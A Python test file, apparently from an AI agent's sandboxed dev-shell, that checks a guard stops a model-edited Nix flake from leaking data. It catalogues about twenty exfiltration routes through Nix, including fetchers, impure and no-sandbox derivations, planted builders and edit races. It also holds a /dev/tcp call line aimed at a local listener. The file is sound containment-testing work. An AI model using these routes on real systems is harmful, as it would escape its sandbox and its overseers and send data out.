"""One bit out through Nix: every way that is known, each first without the guard, where it must work, then with it."""

from __future__ import annotations

import base64
import hashlib
import json
import stat
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

import pytest

from agent.devshell.client_options import private_store
from agent.devshell.client_steps import Seen, Time
from agent.devshell.flake import ShellRefused
from agent.errors import PodTrouble, TicketFailure
from agent.programs.runner import Finished, Job, Runner
from support.git_repo import FLAKE, git
from support.needs import needs
from support.nix_daemon import Daemon, needs_daemon
from support.nix_jail import PATH, Bench, Jails, Listener, all_steps, listening

pytestmark = [
    pytest.mark.nix,
    needs("nix", "bwrap"),
]
HEAD: Final = "outputs =\n    { self }:"
VALUE: Final = 'SOME_VAR = "from the shell";'
HASH: Final = "sha256-" + base64.b64encode(hashlib.sha256(b"what nobody has").digest()).decode()
REV: Final = "21a67dc470149f337cecafbe965d8d252a390518"
CALL: Final = "(exec 3<>/dev/tcp/127.0.0.1/PORT; echo 1 >&3) 2>/dev/null; echo made > $out"


def built(attributes: str = "", name: str = "dep") -> str:
    """A dependency whose build calls out; it is well-behaved otherwise."""
    words = f'inherit system; name = "{name}"; builder = "/bin/bash"; args = [ "-c" "{CALL}" ]; {attributes}'
    return f"dep = derivation {{ {words} }};"


def flat(content: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()


def variables(text: str) -> dict[str, str]:
    return {"flake.nix": FLAKE.replace(VALUE, text)}


def head(text: str, arguments: str = "self") -> dict[str, str]:
    return {"flake.nix": FLAKE.replace(HEAD, f"{text}\n  outputs =\n    {{ {arguments} }}:")}


LOCK: Final = json.dumps(
    {
        "nodes": {
            "far": {
                "locked": {"type": "tarball", "url": "URL/far.tar.gz", "narHash": HASH},
                "original": {"type": "tarball", "url": "URL/far.tar.gz"},
            },
            "root": {"inputs": {"far": "far"}},
        },
        "root": "root",
        "version": 7,
    }
)
INPUT: Final = {
    "flake.nix": head('inputs.far.url = "URL/far.tar.gz";', "self, far")["flake.nix"].replace(
        VALUE, "SOME_VAR = far.word;"
    )
}
ATTACKS: Final[dict[str, dict[str, str]]] = {
    "fixed-output derivation": variables(built(f'outputHashMode = "flat"; outputHash = "{flat("made" + chr(10))}";', "fixed")),
    "ordinary derivation": variables(built(name="ordinary")),
    "no chroot": variables(built("__noChroot = true;", "nochroot")),
    "impure derivation": variables(
        built("__impure = true;", "impure").replace("dep =", "dep = let impure =")
        + f' in derivation {{ inherit system impure; name = "pure"; builder = "/bin/bash"; args = [ "-c" "echo made > $out" ]; '
        f'outputHash = "{flat("made" + chr(10))}"; }};'
    ),
    "content-addressed derivation": variables(built('__contentAddressed = true; outputHashMode = "recursive"; outputHashAlgo = "sha256";', "ca")),
    "builtin:fetchurl": variables(
        'dep = derivation { name = "f"; system = "builtin"; builder = "builtin:fetchurl"; url = "URL/x"; outputHashMode = "flat"; '
        f'outputHash = "{HASH}"; }};'
    ),
    "the shell's own builder": {
        "flake.nix": FLAKE.replace('builder = "/bin/bash"', 'builder = "${./evil}/bash"'),
        "evil/bash": f'#!/bin/bash\n{CALL}\nexec /bin/bash "$@"\n',
    },
    "fetchurl": variables('SOME_VAR = builtins.readFile (builtins.fetchurl "URL/x");'),
    "fetchurl with a hash": variables(f'SOME_VAR = builtins.readFile (builtins.fetchurl {{ url = "URL/x"; sha256 = "{HASH}"; }});'),
    "fetchTarball": variables(f'SOME_VAR = builtins.fetchTarball {{ url = "URL/x.tar.gz"; sha256 = "{HASH}"; }};'),
    "fetchGit": variables(f'SOME_VAR = builtins.fetchGit {{ url = "URL/x.git"; rev = "{REV}"; }};'),
    "fetchTree": variables(f'SOME_VAR = builtins.fetchTree {{ type = "tarball"; url = "URL/x"; narHash = "{HASH}"; }};'),
    "fetchTree of git": variables(f'SOME_VAR = builtins.fetchTree {{ type = "git"; url = "URL/x.git"; rev = "{REV}"; }};'),
    "getFlake": variables(f'SOME_VAR = (builtins.getFlake "git+URL/x.git?rev={REV}").outPath;'),
    "fetchClosure": variables(
        f'SOME_VAR = builtins.fetchClosure {{ fromStore = "URL"; fromPath = "STORE/{"0" * 32}-x"; inputAddressed = true; }};'
    ),
    "new input": INPUT,
    "new input, locked": {**INPUT, "flake.lock": LOCK},
    "new git input, locked": {
        "flake.nix": INPUT["flake.nix"].replace("URL/far.tar.gz", "git+URL/far.git"),
        "flake.lock": LOCK.replace('"tarball"', '"git"').replace('"narHash"', f'"rev": "{REV}", "narHash"').replace("far.tar.gz", "far.git"),
    },
    "substituter of its own": {
        "flake.nix": FLAKE.replace(
            HEAD, f'nixConfig.extra-substituters = "URL";\n  nixConfig.substitute = true;\n  {HEAD}'
        ).replace(VALUE, 'dep = derivation { inherit system; name = "cached"; builder = "/bin/sh"; args = [ "-c" "echo > $out" ]; };')
    },
    "import from derivation": variables(
        built(name="ifd").replace("dep =", "SOME_VAR = builtins.readFile (").replace("};", "});")
    ),
}  # fmt: skip
"""Files of the repository; URL, PORT and STORE are put in."""
FEATURES: Final = {
    "impure derivation": "impure-derivations ca-derivations",
    "content-addressed derivation": "ca-derivations",
    "fetchClosure": "fetch-closure",
}
"""Experimental features without which an attack does not work anywhere."""
HARMLESS: Final = ("ordinary derivation", "the shell's own builder", "substituter of its own")
"""What is made all the same: it calls in vain, and goes on."""


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as one:
        yield one


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    yield Bench(tmp_path, tmp_path / "nix")
    for path in tmp_path.rglob("*"):
        if path.is_dir() and not path.is_symlink():
            path.chmod(path.stat().st_mode | stat.S_IRWXU)  # a store is read-only, and pytest cleans up


def plant(bench: Bench, files: dict[str, str], listener: Listener, store: str = "/nix/store") -> None:
    for name, content in files.items():
        text = content.replace("URL", listener.url).replace("PORT", str(listener.port)).replace("STORE", store)
        bench.write(name, text)
        if text.startswith("#!"):
            (bench.checkout / name).chmod(0o755)
    git(bench.checkout, "add", "--all")


def unguarded(bench: Bench, options: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """What `nix develop` of a trusting host does: no jail, no judgement."""
    settings = {
        "experimental-features": "nix-command flakes",
        "accept-flake-config": "true",
        "flake-registry": "",
        "pure-eval": "false",
        "sandbox": "false",
        "download-attempts": "1",
        **options,
    }
    config = "".join(f"{key} = {value}\n" for key, value in settings.items())
    env = {"PATH": PATH, "HOME": str(bench.folder / "home"), "NIX_CONFIG": config, "GIT_TERMINAL_PROMPT": "0"}
    argv = ["nix", "print-dev-env", "--impure", "--no-write-lock-file", f"git+file://{bench.checkout}"]
    return subprocess.run(argv, env=env, capture_output=True, text=True, check=False, timeout=60)


@pytest.mark.parametrize("attack", ATTACKS)
async def test_no_bit_leaves_through_nix(
    bench: Bench, listener: Listener, measured: Callable[[str], None], attack: str
) -> None:
    plant(bench, ATTACKS[attack], listener, f"{bench.folder}/unguarded/store")
    options = {**private_store(bench.folder / "unguarded"), "extra-experimental-features": FEATURES.get(attack, "")}
    control = unguarded(bench, options)
    assert listener.heard(), f"the attack does not work even without the guard: {control.stderr}"
    plant(bench, ATTACKS[attack], listener, f"{bench.folder}/nix/store")
    if attack in HARMLESS:
        await bench.evaluate()
    else:
        with pytest.raises(TicketFailure) as caught:
            await bench.evaluate()
        assert isinstance(caught.value, ShellRefused) or "'fetchClosure' missing" in caught.value.reason
    assert listener.heard() == []
    measured(f"Nix, one bit out by {attack}: 1 attempt, 0 successes; without the guard 1 of 1")


async def test_the_jail_alone_holds_where_nobody_judges(
    bench: Bench, listener: Listener, measured: Callable[[str], None]
) -> None:
    """The second wall: the same Nix in the same jail, told to build whatever the flake asks for."""
    store = bench.client.stores().builds
    attacks = [name for name in ATTACKS if name not in FEATURES]
    for attack in attacks:
        plant(bench, ATTACKS[attack], listener, str(store.folder))
        async with bench.client._steps.inside("evaluate", store, readable=(bench.checkout,)) as nix:
            words = ("--impure", "--no-write-lock-file", "--option", "restrict-eval", "false")
            more = ("--option", "substitute", "true", "--option", "allow-import-from-derivation", "true")
            await nix.run("print-dev-env", *words, *more, f"git+file://{bench.checkout}", time=Time(60))
        (bench.checkout / "flake.lock").unlink(missing_ok=True)
    assert listener.heard() == []
    measured(f"Nix, one bit out of the jail without any judgement: {len(attacks)} attempts, 0 successes")


class Editing(Jails):
    """The model edits its flake while Nix is at work: before the given step."""

    def __init__(self, folder: Path, step: int, edit: Callable[[], None]) -> None:
        super().__init__(folder)
        self._step = step
        self._edit = edit

    def __call__(
        self,
        *,
        readable: tuple[Path, ...],
        writable: tuple[Path, ...],
        elsewhere: tuple[tuple[Path, Path], ...] = (),
        seen: Seen | None = None,
    ) -> Runner:
        inner = super().__call__(readable=readable, writable=writable, elsewhere=elsewhere, seen=seen)
        return Before(inner, self._edit) if len(self.made) == self._step else inner


class Before:
    def __init__(self, inner: Runner, edit: Callable[[], None]) -> None:
        self._inner = inner
        self._edit = edit

    async def run(self, job: Job) -> Finished:
        self._edit()
        return await self._inner.run(job)


@pytest.mark.parametrize("step", [2, 3], ids=["before the evaluation", "before the build"])
async def test_an_edit_after_the_copy_changes_nothing(
    bench: Bench, listener: Listener, measured: Callable[[str], None], step: int
) -> None:
    await bench.client.check()
    jails = Editing(bench.folder / "jails", step, lambda: plant(bench, ATTACKS["fixed-output derivation"], listener))
    result = await all_steps(bench.make(jail=jails), await bench.flake())
    assert b"from the shell" in result.script
    assert b"fixed" not in result.script
    assert "fixed" in (bench.checkout / "flake.nix").read_text()
    assert (bench.copied(result.copy) / "flake.nix").read_text() == FLAKE
    assert listener.heard() == []
    measured("Nix, one bit out by an edit between check and build: 1 attempt, 0 successes")


async def test_an_edit_back_and_forth_meets_one_copy(bench: Bench) -> None:
    """What is made belongs to the copy that is named, whatever the checkout holds before and after."""
    other = FLAKE.replace("from the shell", "from the other")
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            for text in (FLAKE, other):
                (bench.checkout / "flake.new").write_text(text)
                (bench.checkout / "flake.new").replace(bench.checkout / "flake.nix")
                time.sleep(0.003)

    thread = threading.Thread(target=flip)
    thread.start()
    try:
        for _ in range(3):  # each meets dozens of edits
            result = await bench.evaluate()
            copied = (bench.copied(result.copy) / "flake.nix").read_text()
            assert (b"from the other" in result.script) == ("from the other" in copied)
    finally:
        stop.set()
        thread.join()


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[Daemon]:
    one = Daemon(tmp_path / "daemon", sandbox="true")
    yield one
    one.close()


@needs_daemon
async def test_a_daemon_builds_what_is_judged_and_downloads_nothing(
    bench: Bench, daemon: Daemon, listener: Listener, measured: Callable[[str], None]
) -> None:
    """The daemon has the host's network for fixed-output derivations: only the judgement keeps them from it."""
    bench.options = daemon.options
    bench.client = bench.make()
    assert b"from the shell" in (await bench.evaluate()).script
    plant(bench, ATTACKS["fixed-output derivation"], listener)
    with pytest.raises(ShellRefused, match="would fetch something for `fixed`"):
        await bench.evaluate()
    assert listener.heard() == []
    plant(bench, ATTACKS["ordinary derivation"], listener)
    assert b"ordinary" in (await bench.evaluate()).script  # in the daemon's sandbox
    assert listener.heard() == []
    plant(bench, ATTACKS["fixed-output derivation"], listener)
    control = unguarded(bench, {**daemon.options, "sandbox": "true"})
    assert listener.heard(), control.stderr
    measured(
        "Nix, one bit out through a daemon by a fixed-output and an ordinary derivation: 2 attempts, 0 successes; the first works unguarded"
    )


@needs_daemon
async def test_a_daemon_without_a_sandbox_is_pod_trouble(bench: Bench, tmp_path: Path, daemon: Daemon) -> None:
    await bench.make(options=daemon.options).check()
    open_ = Daemon(tmp_path / "open", sandbox="false")
    try:
        client = bench.make(options=open_.options)
        with pytest.raises(PodTrouble, match=r"builds without a sandbox.*set `sandbox = true`"):
            await client.check()
        with pytest.raises(PodTrouble, match=r"builds without a sandbox"):
            await all_steps(client, await bench.flake())
    finally:
        open_.close()
